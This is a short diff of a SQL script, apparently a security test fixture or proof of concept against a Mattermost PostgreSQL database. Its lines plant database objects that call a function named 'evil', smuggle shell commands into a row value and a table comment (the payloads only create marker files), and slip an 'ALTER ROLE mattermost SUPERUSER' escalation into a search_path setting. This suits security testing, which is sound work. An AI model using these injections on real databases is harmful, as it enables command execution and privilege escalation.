@@ -146,7 +146,9 @@ INSERT INTO public.trap VALUES (1, E'a\nposts=$(touch owned-row)');
 CREATE INDEX IF NOT EXISTS trapped ON public.trap ((public.truth(n))) WHERE false;
 CREATE OR REPLACE VIEW public.mattermost AS SELECT public.evil() AS n;
 CREATE OR REPLACE RULE entered AS ON INSERT TO public.trap DO ALSO SELECT public.evil();
-DROP TRIGGER IF EXISTS touched ON public.posts; CREATE TRIGGER touched AFTER INSERT OR UPDATE ON public.posts FOR EACH ROW EXECUTE FUNCTION public.touched();
+DO $$ BEGIN -- it may be a view by now
+  DROP TRIGGER IF EXISTS touched ON public.posts; CREATE TRIGGER touched AFTER INSERT OR UPDATE ON public.posts FOR EACH ROW EXECUTE FUNCTION public.touched();
+EXCEPTION WHEN wrong_object_type THEN NULL; END $$;
 DROP MATERIALIZED VIEW IF EXISTS public.kept; CREATE MATERIALIZED VIEW public.kept AS SELECT public.evil() AS n;
 COMMENT ON TABLE public.trap IS E'\\! touch owned-comment\n\\connect postgres';
 SELECT set_config('search_path', 'public,pg_catalog;ALTER/**/ROLE/**/mattermost/**/SUPERUSER', false); ALTER DATABASE mattermost SET search_path FROM CURRENT;
